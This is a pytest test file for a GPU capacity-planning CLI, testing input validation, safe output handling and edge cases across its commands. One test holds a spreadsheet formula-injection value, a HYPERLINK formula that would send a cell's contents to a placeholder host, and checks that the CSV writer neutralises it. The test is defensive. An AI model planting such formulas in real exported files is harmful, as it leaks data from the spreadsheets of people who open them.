    entry = next(m for m in yaml.safe_load((CATALOG_DIR / "models.yaml").read_text())["models"]
                 if m["id"] == "llama-3.1-8b")
    return dict(entry["config"])


@pytest.mark.parametrize("edit, expected", [
    ({"layer_types": ["linear_attention"] * 3 + ["full_attention"], "linear_num_key_heads": -100000,
      "linear_num_value_heads": 8, "linear_key_head_dim": 128, "linear_value_head_dim": 128},
     "linear_num_key_heads: Input should be greater than or equal to 1"),
    ({"index_n_heads": -64}, "index_n_heads: Input should be greater than or equal to 1"),
    ({"interleave_moe_layer_step": -1}, "interleave_moe_layer_step: Input should be greater than or equal to 1"),
    ({"hidden_size": 8, "num_attention_heads": 32, "num_key_value_heads": 8, "head_dim": None},
     "hidden_size 8 < num_attention_heads 32: without head_dim each head would have 0 dimensions"),
])
def test_config_json_fields_of_newer_architectures_have_a_domain(tmp_path, edit, expected):
    """Negative linear-attention, indexer and interleave fields gave a model of −307 B parameters
    whose plan verified with −614 GB per card; a head dimension derived as 0 divided by zero."""
    cfg = {k: v for k, v in {**_llama_config(), **edit}.items() if v is not None}
    path = write(tmp_path, json.dumps(cfg), "config.json")
    code, out = run("eval", "--model", path, "--gpu", "h100", "--cards", "1")
    assert code == 2 and expected in out, out


def test_solve_never_writes_over_the_calibration_profile_it_reads(tmp_path):
    prof = write(tmp_path, (ROOT / "catalogs" / "calibration" / "vllm.yaml").read_text(), "mine.yaml")
    before = prof.read_text()
    code, out = run("solve", write(tmp_path, SMALL), "--calibration", prof, "--out", prof)
    assert code == 2 and "the calibration profile this problem reads" in out and prof.read_text() == before, out


@pytest.mark.parametrize("name, data", [
    ("notes.txt", b"# tuning notes\ncompute_efficiency: 0.4 looked best\n"),
    ("status.json", b'{"schema_version": 3, "status": "draft", "owner": "me"}'),
    ("fig.png", None),   # the user's own matplotlib figure
])
def test_user_files_that_look_like_plans_outputs_are_still_the_users(tmp_path, name, data):
    if data is None:
        import io

        import matplotlib
        matplotlib.use("Agg")
        import matplotlib.pyplot as plt
        fig, _ = plt.subplots()
        buf = io.BytesIO()
        fig.savefig(buf, format="png")
        plt.close(fig)
        data = buf.getvalue()
    f = tmp_path / name
    f.write_bytes(data)
    assert not written_by_planner(f)
    code, out = run("solve", write(tmp_path, SMALL), "--out", f)
    assert code == 2 and "is not an output of plan" in out and f.read_bytes() == data, out


def test_export_force_keeps_a_sibling_directory_named_like_its_backup(tmp_path):
    """The previous export was swapped out through a fixed '.ex.old' beside it, deleting a
    directory of the user's of that name."""
    plan = ROOT / "tests" / "golden" / "solve" / "small_model_cheap_card.json"
    keep = tmp_path / ".ex.old"
    keep.mkdir()
    (keep / "important.txt").write_text("precious")
    for _ in range(2):
        code, out = run("export", plan, "--target", "k8s", "--out", tmp_path / "ex", "--force")
        assert code == 0, out
    assert (keep / "important.txt").read_text() == "precious"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".ex.old.")]


def test_a_plan_inside_the_export_directory_and_a_chart_of_the_wrong_kind_are_refused(tmp_path):
    (tmp_path / "dep").mkdir()
    code, out = run("solve", write(tmp_path, SMALL), "--out", tmp_path / "dep" / "plan.json",
                    "--export", "vllm", "--export-dir", tmp_path / "dep")
    assert code == 2 and "inside --export-dir" in out and not list((tmp_path / "dep").iterdir()), out
    code, out = run("whatif", write(tmp_path, SMALL), ROOT / "problems" / "whatif" / "h200_minus_20.yaml",
                    "--plot", tmp_path / "w.svg")
    assert code == 2 and "--plot" in out and "must end .png" in out and not (tmp_path / "w.svg").exists(), out


def test_periods_without_load_are_not_simulated(tmp_path):
    """A load profile may have hours without requests (plan solve plans and verifies them);
    `plan simulate --period all` skips them and `--period i` on one says so, where both blamed the
    plan file ('workload.qps: Input should be greater than 0')."""
    from planner.studies.simulate.fleet import period_indices
    d = json.loads((ROOT / "tests" / "golden" / "solve" / "deepseek_day.json").read_text())
    d["periods"][0]["qps"] = 0.0
    assert period_indices(d, "all", "day.json") == list(range(1, len(d["periods"])))
    code, out = run("simulate", write(tmp_path, json.dumps(d), "day.json"), "--period", "0")
    assert code == 2 and "period 0 of" in out and "has no load (qps 0): there is nothing to simulate" in out, out


def test_a_file_output_ending_in_a_slash_is_a_usage_error(tmp_path):
    """`--out plan.json/` wrote plan.json (the slash dropped)."""
    code, out = run("solve", write(tmp_path, SMALL), "--out", f"{tmp_path}/plan.json/")
    assert code == 2 and "ends with '/', a directory; give a file name" in out, out
    assert not (tmp_path / "plan.json").exists()


@pytest.mark.parametrize("name", ["plan\n.json", "plan\t.json", "plan\x1b[31m.json"])
def test_an_output_name_with_a_control_character_is_a_usage_error(tmp_path, name):
    """`--out $'plan\n.json'` wrote a file whose name broke every message naming it (a hunt);
    nothing is written. Other characters (a space, an accented letter) stay allowed."""
    code, out = run("solve", write(tmp_path, SMALL), "--out", str(tmp_path / name))
    assert code == 2 and "holds a control character (a newline, tab or escape)" in out, out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.yaml"]
    code, out = run("solve", write(tmp_path, SMALL), "--out", str(tmp_path / "plan é.json"))
    assert code == 0 and (tmp_path / "plan é.json").exists(), out


def test_kv_heads_divide_the_heads_and_stages_do_not_outnumber_layers(tmp_path):
    cfg = {**_llama_config(), "num_key_value_heads": 5}
    code, out = run("eval", "--model", write(tmp_path, json.dumps(cfg), "config.json"), "--gpu", "h100")
    assert code == 2 and "num_attention_heads 32 is not a multiple of num_key_value_heads 5" in out, out
    code, out = run("eval", "--model", "llama-3.1-8b", "--gpu", "h100", "--cards", "64", "--pp", "64", "--tp", "1")
    assert code == 2 and "--pp 64: more pipeline stages than the model's 32 layers" in out, out


def test_validate_json_is_recognised_as_plans_own(tmp_path):
    """`plan validate --json > v.json` then `--out v.json` (e.g. a plot's path reused) replaces it."""
    code, out = run("validate", ROOT / "catalogs" / "measurements" / "public.yaml", "--folds", "0", "--json")
    assert code == 0, out
    f = write(tmp_path, out, "v.json")
    assert written_by_planner(f)


def test_period_of_a_plan_without_periods_is_refused(monkeypatch):
    """`plan simulate fleet.json --period 3` silently simulated the whole plan."""
    monkeypatch.chdir(ROOT)
    code, out = run("simulate", "tests/golden/solve/fleet_mix.json", "--period", "3")
    assert code == 2 and "is not a plan over a load profile; it has no periods to pick" in out, out


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    """A scenario named `=HYPERLINK(…)` (or `+…`, `-…`, `@…`) would be evaluated as a formula when
    whatif's CSV is opened in a spreadsheet: the cell is written with a leading apostrophe, the
    JSON keeps the name as written, and numbers (a negative delta) stay numbers."""
    import csv
    import io
    base = write(tmp_path, SMALL)
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    sc = write(tmp_path, {"name": evil, "gpus": {"update": {"h100": {"price_change_percent": -20}}}}, "s.yaml")
    out = tmp_path / "w.csv"
    r = CliRunner().invoke(cli.main, ["whatif", str(base), str(sc), "--csv", str(out), "--json"])
    assert r.exit_code == 0, r.output
    assert [s["scenario"] for s in json.loads(r.stdout)["scenarios"]][1] == evil
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert rows[1]["scenario"] == "'" + evil
    assert float(rows[1]["delta_cost_per_hour"]) < 0 and not rows[1]["delta_cost_per_hour"].startswith("'")


def test_an_engine_budget_below_the_chunk_is_refused(tmp_path, llama70b_chat_colocated_json):
    """A hand-edited colocated pool whose engine budget is below its chunk (10 tokens a step for
    prompts of up to 1,800) would make the simulator take every prompt in 10-token steps and the
    export configure engines that way: exit 2 naming the field, from both commands."""
    import copy
    d = copy.deepcopy(llama70b_chat_colocated_json)
    i = next(k for k, p in enumerate(d["pools"]) if p["role"] == "colocated")
    d["pools"][i]["engine_chunk_tokens"] = 10
    plan = write(tmp_path, json.dumps(d), "plan.json")
    export = ("export", plan, "--target", "vllm", "--out", tmp_path / "x")
    for args in (("simulate", plan, "--requests", "300"), export):
        code, out = run(*args)
        assert code == 2 and f"pools[{i}].engine_chunk_tokens: 10 is below the pool's chunk_tokens (954)" in out, out
    assert not (tmp_path / "x").exists()


# ------------------------------------------------------------ every file a problem reads
def _day_trace(tmp_path: Path, name: str) -> Path:
    """A 24-hour request trace (5 to 28 requests an hour) that a problem can read."""
    rows = ["timestamp,input_tokens,output_tokens"]
    for h in range(24):
        rows += [f"{h * 3600 + 3600 * (i + 0.5) / (5 + h)},{800 + h},{100 + h}" for i in range(5 + h)]
    rows += ["0,800,100", f"{24 * 3600 - 1e-3},800,100"]
    p = tmp_path / name
    p.write_text("\n".join(rows) + "\n")
    return p


@pytest.mark.parametrize("command", [
    ["solve", "{p}", "--out", "{t}", "--force"],
    ["solve", "{p}", "--chart", "{t}.png", "--out", "{t}", "--force"],
    ["whatif", "{p}", str(ROOT / "problems" / "whatif" / "h200_minus_20.yaml"), "--csv", "{t}", "--force"],
    ["sweep", "{p}", "--points", "2", "--out", "{d}", "--force"],
])
def test_force_never_replaces_the_trace_a_problem_reads(tmp_path, command):
    """--force replaces outputs of other runs, never an input: the trace CSV a problem reads (until
    2026-12-03 only the problem file and a calibration profile were protected; `plan solve P --out
    trace.csv --force` replaced the trace with the plan's JSON). The sweep's trace is named like
    the frontier CSV it writes into the same directory."""
    trace = _day_trace(tmp_path, "frontier.csv")
    before = trace.read_bytes()
    p = write(tmp_path, {**SMALL, "workload": {"trace": {"file": "frontier.csv"}}})
    args = [a.format(p=p, t=trace, d=tmp_path) for a in command]
    code, out = run(*args)
    assert code == 2 and "refusing to overwrite the trace this problem reads" in out, out
    assert trace.read_bytes() == before


def test_force_never_replaces_the_model_config_a_problem_reads(tmp_path):
    """A model given as a path to a config.json is an input too."""
    catalog = yaml.safe_load((ROOT / "catalogs" / "models.yaml").read_text())["models"]
    model = tmp_path / "config.json"
    model.write_text(json.dumps(next(m for m in catalog if m["id"] == "llama-3.1-8b")["config"]))
    before = model.read_bytes()
    p = write(tmp_path, {**SMALL, "model": str(model)})
    code, out = run("solve", p, "--out", model, "--force")
    assert code == 2 and "refusing to overwrite the model config this problem reads" in out, out
    assert model.read_bytes() == before
    code, out = run("solve", p, "--out", tmp_path / "plan.json")   # and the plan itself is fine
    assert code == 0, out


# ------------------------------------------------------------ values YAML types but cannot build
@pytest.mark.parametrize("line, message", [
    ("name: 2026-13-45", "a value YAML cannot read: a date or number out of range (month must be in 1..12)"),
    ("name: hostile\nextra_number: " + "9" * 5000,
     "a value YAML cannot read: a whole number of more than 4,300 digits"),
    ("name: hostile\nlimits: {max_gpu_types: 0x" + "f" * 4000 + "}",
     # refused as YAML 1.1's hexadecimal since the second hunt of 2026-12-04 (was: too large for the field)
     "line 2, column 25: 0xfffffffffffffffffffffffffffffffffffffffffffffffffffffffff… is a hexadecimal number in "
     "YAML 1.1 (a whole number of 16,000 bits); no planner value is that large"),
    ("name: hostile\nlimits: {max_gpu_types: 2000000000000000000000}", "limits.max_gpu_types: too large"),
])
def test_values_yaml_cannot_build_or_no_field_can_hold(tmp_path, line, message):
    """A date out of range, an integer literal beyond Python's 4,300 digits, or a whole number no
    count can be (HiGHS took 2^16000 cards as a bound and overflowed): exit 2 naming the file (and
    the field where there is one), where each was an internal error (exit 5) until 2026-12-03."""
    body = yaml.safe_dump({k: v for k, v in SMALL.items() if k != "name"})
    p = write(tmp_path, line + "\n" + body)
    code, out = run("solve", p)
    assert code == 2 and f"{p}: {message}" in out, out


# ------------------------------------------------------------ valid but extreme problems
@pytest.mark.parametrize("extra, code_expected, text", [
    # a utilisation ceiling so small that a prefill instance's capacity underflows: the bound on its
    # instances was infinite (OverflowError); capped at a million the plan was infeasible; since
    # 2026-12-05 a ceiling is a percent above 1 (a fraction such as 0.9 read as 0.9 %): bad input
    ({"serving": {"max_utilization_percent": 1e-308}}, 2, "max_utilization_percent: Input should be greater than 1"),
    # a node dearer than 10^15 beside a budget: its coefficient in the budget row was beyond what
    # HiGHS takes, and PuLP failed reading the answer (IndexError); whole nodes of it fit no budget.
    # Prices stop at 1e9 a card-hour since the second hunt of 2026-12-04: the dearest one allowed
    ({"gpus": [{"id": "h100", "price_per_gpu_hour": 1e9}], "limits": {"budget_per_hour": 5000}}, 3,
     "demand cannot be met within budget_cap"),
    # free cards with speculative decoding: the saving of a free plan has no fraction (a TypeError
    # in the text output); the line now gives the cost without the fraction
    ({"gpus": [{"id": "h100", "price_per_gpu_hour": 0}],
      "serving": {"speculative": {"method": "eagle", "draft_tokens": 2, "acceptance": 0.7}}}, 0,
     "the best plan without it 0.00 RMB/h\n"),
])
def test_extreme_but_valid_problems_end_in_a_plan_or_a_reason(tmp_path, extra, code_expected, text):
    """Found by a hostile-input hunt (2026-12-03): each was exit 5 (internal error)."""
    code, out = run("solve", write(tmp_path, {**SMALL, **extra}))
    assert code == code_expected and text in out, out


# ------------------------------------------------------------ plan files edited by hand
@pytest.fixture(scope="module")
def small_plans(tmp_path_factory):
    """The small problem's plan JSON, and its plan over a flat 24-hour profile."""
    d = tmp_path_factory.mktemp("plans")
    single, horizon = d / "p.json", d / "h.json"
    profile = {**SMALL["workload"], "profile": {"period": "1h", "qps": [1.0] * 24}}
    for data, out in ((SMALL, single), ({**SMALL, "workload": profile}, horizon)):
        code, text = run("solve", write(d, data, out.stem + ".yaml"), "--out", out)
        assert code == 0, text
    return json.loads(single.read_text()), json.loads(horizon.read_text())


def _edited(tmp_path: Path, data: dict, path: tuple, value) -> Path:
    """`data` with the value at `path` replaced (or removed, value ...), written to a file."""
    d = json.loads(json.dumps(data))
    x = d
    for k in path[:-1]:
        x = x[k]
    if value is ...:
        del x[path[-1]]
    else:
        x[path[-1]] = value
    f = tmp_path / "edited.json"
    f.write_text(json.dumps(d))
    return f


@pytest.mark.parametrize("path, value, message", [
    (("slo", "tpot_s"), 1e308, "slo.tpot_s: Input should be less than or equal to 1000000000"),
    (("pools", 0, "capacity_prefill_tokens_per_s"), 1e308, "pools[0].capacity_prefill_tokens_per_s: Input should "
                                                           "be less than or equal to 1000000000000000"),
    (("workload", "input_tokens"), 1e300, "workload.input_tokens: Input should be less than or equal to 10000000"),
    (("pools", 0, "chunk_tokens"), 1e300, "pools[0].chunk_tokens: Input should be less than or equal to 10000000"),
    (("workload", "output_distribution"), [[1e308, 1]], "workload.output_distribution: each entry must be "
                                                         "[tokens in 1 … 10,000,000"),
])
def test_a_plan_file_holds_what_a_problem_could_have_produced(tmp_path, small_plans, path, value, message):
    """A plan file's numbers have the domains of the problem file they come from: 10^308 tokens or
    seconds overflowed the simulator and the exporter (exit 5), and 10^300-token prompts simulated
    to NaN with exit 0."""
    f = _edited(tmp_path, small_plans[0], path, value)
    for args in (("simulate", f, "--requests", "300"), ("export", f, "--target", "vllm", "--out", tmp_path / "x")):
        code, out = run(*args)
        assert code == 2 and f"{f}: {message}" in out, out


@pytest.mark.parametrize("path, value, message", [
    (("periods", 0), "x", "periods[0]: Input should be a mapping of its fields"),
    (("periods", 0, "qps"), "x", "periods[0].qps: Input should be a valid number"),
    (("periods", 0, "qps"), -1, "periods[0].qps: Input should be greater than or equal to 0"),
    (("problem",), ..., "problem: required field is missing"),
    (("periods", 0, "pools"), ..., "periods[0].pools: required field is missing"),
    (("periods", 0, "input_tokens_mean"), None, "periods[0].input_tokens_mean: missing"),
    (("comparison",), "x", "comparison: Input should be a mapping of its fields"),
    (("comparison", "static_peak_plan"), {}, "comparison.static_peak_plan.workload: not a plan's workload"),
    (("periods", 0, "pools", 0, "gpu"), "zz", "periods[0].pools[0].gpu: unknown GPU 'zz'"),
])
def test_a_plan_over_a_profile_is_checked_before_its_periods_are_simulated(tmp_path, small_plans, path, value,
                                                                          message):
    """`plan simulate` of a plan over a load profile read its periods unchecked: a period that is
    not a mapping, a QPS that is not a number, a missing key were internal errors (exit 5), and a
    negative QPS was taken (the peak went to another period)."""
    f = _edited(tmp_path, small_plans[1], path, value)
    code, out = run("simulate", f, "--requests", "300", "--period", "0")
    assert code == 2 and f"{f}: {message}" in out, out


@pytest.mark.parametrize("header, row, message", [
    (MINIMAL_HEADER, "", "no measured point to validate against (read 0 rows, kept 0 points, dropped 0)"),
    (MINIMAL_HEADER, "llama-3.1-8b,h100,vllm,1,4.5,1,1,1,agg,4,1000,100,50,10,0.8,bf16\n",
     "line 2: tp: '4.5', expected a whole number"),
    (MINIMAL_HEADER.replace("tp,", "tp,tp,", 1), "llama-3.1-8b,h100,vllm,1,1,1,1,1,1,agg,4,1000,100,50,10,0.8,bf16\n",
     "header: column 'tp' given twice"),
])
def test_a_minimal_measurement_csv_says_what_it_cannot_read(tmp_path, header, row, message):
    """A header without rows gave an empty report (exit 0: a model with no error), `tp` 4.5 was
    truncated to 4, and a column given twice kept its last value silently."""
    f = tmp_path / "m.csv"
    f.write_text(header + row)
    code, out = run("validate", f, "--folds", "0")
    assert code == 2 and f"{f}: {message}" in out, out


def test_a_qps_the_profile_overrides_is_noted_and_may_be_left_out(tmp_path):
    """With a profile in requests/s, workload.qps was required and then ignored without a word: a
    file saying 1000 req/s planned for 1. It may now be left out (the busiest period's), and a
    written one that differs is a note on stderr."""
    profile = {"period": "1h", "qps": [1.0] * 23 + [2.0]}
    r = CliRunner().invoke(cli.main, ["solve", str(write(tmp_path, {
        **SMALL, "workload": {**SMALL["workload"], "qps": 1000, "profile": profile}}))])
    assert r.exit_code == 0 and "workload.qps: 1000 req/s is not used; profile.qps gives each period's " \
                                "requests/s (busiest 2)" in r.stderr, r.stderr
    wl = {k: v for k, v in SMALL["workload"].items() if k != "qps"}
    from planner.input.load import load_problem
    p = load_problem(write(tmp_path, {**SMALL, "workload": {**wl, "profile": profile}}, "noqps.yaml"))
    assert p.workload.qps == 2.0
    r = CliRunner().invoke(cli.main, ["solve", str(tmp_path / "noqps.yaml"), "--json"])
    assert r.exit_code == 0 and "not used" not in r.stderr, r.stderr
    # numbers the profile reads as numbers: "3", and 1e8, which YAML 1.1 reads as text (it said
    # 'workload.qps: required field is missing')
    text = yaml.safe_dump({**SMALL, "workload": {**wl, "profile": {"period": "1h", "qps": [1.0] * 23 + ["3"]}}})
    (tmp_path / "strings.yaml").write_text(text.replace("- '3'", "- 3e0"))
    assert yaml.safe_load((tmp_path / "strings.yaml").read_text())["workload"]["profile"]["qps"][-1] == "3e0"
    assert load_problem(tmp_path / "strings.yaml").workload.qps == 3.0


def test_a_check_across_fields_names_its_field_without_a_top_level_prefix(tmp_path):
    """A problem-level check that names the field itself printed 'p.yaml: (top level): gpus[0]…'."""
    profile = {"period": "1h", "qps": [1.0] * 24}
    code, out = run("solve", write(tmp_path, {**SMALL, "workload": {**SMALL["workload"], "profile": profile},
                                              "gpus": [{"id": "h100", "spot_price_per_gpu_hour": [1, 2]}]}))
    assert code == 2 and out.strip().endswith(
        "p.yaml: gpus[0].spot_price_per_gpu_hour: 2 values; the profile has 24 periods"), out
    assert "(top level)" not in out


@pytest.mark.parametrize("args, message", [
    (["eval", "--model", "", "--gpu", "h100", "--cards", "1"], "--model: empty"),
    (["eval", "--model", "llama-3.1-8b", "--gpu", "h100", "--cards", "1", "--requests-per-client", "5"],
     "--requests-per-client: it sizes the closed loop of --concurrency; give --concurrency too"),
    (["init", "--gpus", "", "--out", "{tmp}/i.yaml"], "plan init: --gpus: empty; leave the option out"),
    (["solve", str(ROOT / "problems" / "deepseek_qps.yaml"), "--export-dir", "{tmp}/d"],
     "--export-dir: it names where --export writes; give --export TARGET too"),
    (["sweep", str(ROOT / "problems" / "deepseek_qps.yaml"), "--tpot=", "--out", "{tmp}/s"], "--tpot: empty"),
])
def test_an_option_given_empty_or_alone_is_refused_not_ignored(tmp_path, args, message):
    """An empty option (a shell variable left unset) or one that only means something beside
    another was taken as absent: a default axis swept, a default GPU list written, an --export-dir
    without --export dropped in silence."""
    code, out = run(*[a.format(tmp=tmp_path) for a in args])
    assert code == 2 and message in out, out


def test_export_model_path_empty_is_refused(tmp_path, small_plans):
    f = tmp_path / "p.json"
    f.write_text(json.dumps(small_plans[0]))
    code, out = run("export", f, "--target", "vllm", "--out", tmp_path / "e", "--model-path", "")
    assert code == 2 and "--model-path: empty" in out and not (tmp_path / "e").exists(), out


def test_a_message_that_says_what_it_got_does_not_say_it_twice(tmp_path):
    code, out = run("solve", write(tmp_path, {**SMALL, "slo": {"ttft": "2s", "tpot": None}}))
    assert code == 2 and out.rstrip().endswith('"1.5min", got null'), out


def test_a_purchase_beyond_the_bases_cap_names_buy_nodes(tmp_path):
    """Buying more nodes than the base lets the plan hold blamed the base's gpus[1].owned_nodes, a
    field the user never wrote; the scenario's buy.nodes is named now."""
    base = write(tmp_path, {**SMALL, "gpus": ["h100", {"id": "h200", "max_nodes": 1}]})
    scen = write(tmp_path, {"name": "b", "buy": {"gpu": "h200", "nodes": 3, "price_per_node": 1e6, "months": 36,
                                                 "electricity_per_kwh": 0.6}}, "s.yaml")
    code, out = run("whatif", base, scen)
    assert code == 2 and f"{scen}: buy.nodes: 3 node(s) of h200 (24 cards) exceed the base's availability " \
                          f"cap of 8 cards (gpus[1]" in out, out


def test_buying_a_gpu_a_usd_base_does_not_list_names_buy_gpu(tmp_path):
    """The merged problem blamed pricing.exchange_rate_per_rmb of gpus[1], an entry no file has;
    the scenario's buy.gpu is named, with the two ways out, and the first of them runs."""
    usd = {**SMALL, "gpus": [{"id": "h100", "price_per_gpu_hour": 2.0}], "pricing": {"currency": "USD"}}
    base = write(tmp_path, usd)
    buy = {"gpu": "h200", "nodes": 1, "price_per_node": 3e5, "months": 36, "electricity_per_kwh": 0.1}
    scen = write(tmp_path, {"name": "b", "buy": buy}, "s.yaml")
    code, out = run("whatif", base, scen)
    assert code == 2 and f"{scen}: buy.gpu: h200 is not in the base's gpus" in out and "gpus[" not in out, out
    listed = write(tmp_path, {"name": "b", "gpus": {"add": [{"id": "h200", "price_per_gpu_hour": 3.0}]},
                              "buy": buy}, "t.yaml")
    code, out = run("whatif", base, listed)
    assert code == 0 and "1×h200" in out, out


def test_a_what_if_on_free_cards_has_no_percent_of_zero(tmp_path):
    """A base whose cards cost nothing: every scenario's change was a percent of 0 (exit 5)."""
    base = write(tmp_path, {**SMALL, "gpus": [{"id": "h100", "price_per_gpu_hour": 0}]})
    code, out = run("whatif", base, ROOT / "problems" / "whatif" / "traffic_3x.yaml", "--json")
    assert code == 0, out
    rows = {r["scenario"]: r for r in json.loads(out)["scenarios"]}
    assert rows["traffic-3x"]["delta_cost_per_hour"] == 0 and rows["traffic-3x"]["delta_percent"] is None
    # its chart: a bar stacked by each role's share of a cost of 0 was a division by zero (exit 5)
    with warnings.catch_warnings():   # nor a warning for a legend of nothing
        warnings.simplefilter("error", UserWarning)
        code, out = run("whatif", base, ROOT / "problems" / "whatif" / "traffic_3x.yaml", "--plot", tmp_path / "w.png")
    assert code == 0 and (tmp_path / "w.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", out


def test_a_scenario_on_a_traced_base_changes_what_it_says(tmp_path):
    """A base reading a trace has per-period lengths and a profile in requests/s: a scenario's
    input_tokens was dropped without a word (every row the base's), and its qps too. Lengths now
    replace every period's; a qps is refused in favour of qps_multiplier."""
    _day_trace(tmp_path, "day.csv")
    base = write(tmp_path, {**SMALL, "workload": {"trace": {"file": "day.csv", "scale": 10}}})
    longer = write(tmp_path, {"name": "long", "workload": {"input_tokens": 8000}}, "long.yaml")
    code, out = run("whatif", base, longer, "--json")
    assert code == 0, out
    rows = {r["scenario"]: r for r in json.loads(out)["scenarios"]}
    assert {p["input_tokens_mean"] for p in rows["long"]["plan"]["periods"]} == {8000.0}
    assert {p["input_tokens_mean"] for p in rows["base"]["plan"]["periods"]} != {8000.0}
    more = write(tmp_path, {"name": "more", "workload": {"qps": 100}}, "more.yaml")
    code, out = run("whatif", base, more)
    assert code == 2 and f"{more}: workload.qps: the base's load profile gives each period's requests/s" in out, out


def test_export_refuses_an_engine_beside_an_engine_target_and_one_path_for_many_models(tmp_path, small_plans):
    """`--target vllm --engine sglang` wrote SGLang scripts under a vLLM export; one --model-path
    was given to every model of a fleet (a Qwen pool launched the Llama weights)."""
    f = tmp_path / "p.json"
    f.write_text(json.dumps(small_plans[0]))
    code, out = run("export", f, "--target", "vllm", "--engine", "sglang", "--out", tmp_path / "e")
    assert code == 2 and "--engine: sglang beside --target vllm" in out and not (tmp_path / "e").exists(), out
    fleet = tmp_path / "fleet.json"
    code, out = run("solve", ROOT / "problems" / "fleet_mix.yaml", "--out", fleet)
    assert code == 0, out
    code, out = run("export", fleet, "--target", "vllm", "--out", tmp_path / "f", "--model-path", "/models/x")
    assert code == 2 and "--model-path: one path for a plan of 3 models" in out, out


def test_a_scenario_gives_owned_nodes_of_one_gpu_one_way(tmp_path):
    """buy: and gpus.update owned_nodes for the same GPU: the plan used the purchase while the
    rent-or-buy comparison kept the update's nodes (a payback of 29.9 against 2.5 months)."""
    owned = {"h100": {"owned_nodes": 2, "owned_cost_per_gpu_hour": 1}}
    scen = write(tmp_path, {"name": "both", "gpus": {"update": owned},
                            "buy": {"gpu": "h100", "nodes": 1, "price_per_node": 1e5, "months": 36,
                                    "electricity_per_kwh": 0.6}}, "s.yaml")
    code, out = run("whatif", write(tmp_path, SMALL), scen)
    assert code == 2 and f"{scen}: gpus.update.h100: owned nodes of the GPU that buy: purchases" in out, out


def test_a_sweep_of_free_cards_draws_its_chart_without_a_warning(tmp_path):
    """Every cost 0 gave matplotlib identical y limits, and its UserWarning reached the terminal."""
    base = write(tmp_path, {**SMALL, "gpus": [{"id": "h100", "price_per_gpu_hour": 0}]})
    r = CliRunner().invoke(cli.main, ["sweep", str(base), "--points", "2", "--out", str(tmp_path / "s")])
    assert r.exit_code == 0 and "Warning" not in r.stderr, r.stderr
    assert (tmp_path / "s" / "frontier.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_classes_of_one_architecture_under_two_names_count_every_card(tmp_path):
    """A class on a copy of Llama-3.1-8B's config.json beside one on the catalog's: their pools are
    equal candidates, and the plan's merged view kept one of them: 3 cards for 4 one-card pools,
    pool costs adding up to a third more than the fleet's. Instances of equal candidates now add."""
    catalog = yaml.safe_load((ROOT / "catalogs" / "models.yaml").read_text())["models"]
    (tmp_path / "config.json").write_text(json.dumps(next(m for m in catalog if m["id"] == "llama-3.1-8b")["config"]))
    k = {"workload": {"qps": 5, "input_tokens": 1000, "output_tokens": 200}, "slo": {"ttft": "2s", "tpot": "50ms"}}
    fleet = {"name": "twins", "gpus": ["h100"], "solver": {"time_limit": "10s"},
             "classes": [{"name": "a", "model": str(tmp_path / "config.json"), **k},
                         {"name": "b", "model": "llama-3.1-8b", **k}]}
    code, out = run("solve", write(tmp_path, fleet), "--json")
    assert code == 0, out
    d = json.loads(out)
    assert d["totals"]["cards"]["h100"] == sum(p["instances"] * p["cards_per_instance"] for p in d["pools"])
    assert sum(p["cost_per_hour"] for p in d["pools"]) == pytest.approx(d["cost_per_hour"])
    fleet["classes"][1]["name"] = "A"
    code, out = run("solve", write(tmp_path, fleet, "case.yaml"))
    assert code == 2 and "classes 'a' and 'A' differ only in case" in out, out


def test_a_fleet_of_one_class_is_not_plural(tmp_path):
    k = {"workload": {"qps": 5, "input_tokens": 1000, "output_tokens": 200}, "slo": {"ttft": "2s", "tpot": "50ms"}}
    code, out = run("solve", write(tmp_path, {"name": "one", "gpus": ["h100"], "solver": {"time_limit": "10s"},
                                              "classes": [{"name": "a", "model": "llama-3.1-8b", **k}]}))
    assert code == 0 and out.startswith("Fleet plan for one: 1 request class, 1 model   "), out


def test_a_fleet_day_class_with_lengths_by_the_hour_is_not_simulated_on_the_days_lengths(tmp_path):
    """A fleet class reading a trace has each hour's lengths; simulating a period gave its pools the
    lengths of the peak plan instead (exit 0, a check of another workload). The period's class
    lengths are in the plan file now (periods[i].classes[j].input_tokens_mean), and a period
    whose lengths differ is refused, as for a single workload over a day."""
    _day_trace(tmp_path, "day.csv")
    k = {"model": "llama-3.1-8b", "slo": {"ttft": "2s", "tpot": "50ms"}}
    fleet = {"name": "fd", "gpus": ["h100"], "solver": {"time_limit": "20s"},
             "classes": [{"name": "a", "workload": {"trace": {"file": "day.csv", "scale": 10}}, **k}]}
    out_json = tmp_path / "fd.json"
    code, out = run("solve", write(tmp_path, fleet), "--out", out_json)
    assert code == 0, out
    period = json.loads(out_json.read_text())["periods"][3]
    assert period["classes"][0]["input_tokens_mean"] == pytest.approx(803.0)
    code, out = run("simulate", out_json, "--period", "3", "--requests", "300")
    assert code == 2 and ("a in period 3: lengths of their own, whose distributions are not in the plan file: "
                          "nothing left to simulate") in out, out


def test_scenarios_have_names_of_their_own(tmp_path):
    """Two scenarios of one name, or one named like the base row, gave rows no one could tell
    apart (table, CSV, JSON, sensitivity)."""
    base = write(tmp_path, SMALL)
    a = write(tmp_path, {"name": "x", "slo": {"tpot": "40ms"}}, "a.yaml")
    b = write(tmp_path, {"name": "x", "slo": {"tpot": "30ms"}}, "b.yaml")
    code, out = run("whatif", base, a, b)
    assert code == 2 and f"{b}: name: 'x' is also the name of {a}" in out, out
    c = write(tmp_path, {"name": "base", "slo": {"tpot": "40ms"}}, "c.yaml")
    code, out = run("whatif", base, c)
    assert code == 2 and "'base' is also the name of the base problem" in out, out


def test_a_deployment_of_another_model_than_the_file_measured_is_refused(tmp_path):
    """A deployment YAML naming Llama-3.1-70B beside a vLLM result of Llama-3.1-8B was taken at its
    word: the 8B run's speed fitted as the 70B's."""
    dep = tmp_path / "dep.yaml"
    dep.write_text((ROOT / "tests" / "data" / "bench" / "dep.yaml").read_text().replace(
        "model: llama-3.1-8b", "model: llama-3.1-70b"))
    code, out = run("validate", ROOT / "tests" / "data" / "bench" / "vllm_sample.json", "--deployment", dep,
                    "--folds", "0")
    assert code == 2 and "model: the file measured 'meta-llama/Llama-3.1-8B' (llama-3.1-8b), the deployment " \
                          "YAML says llama-3.1-70b" in out, out
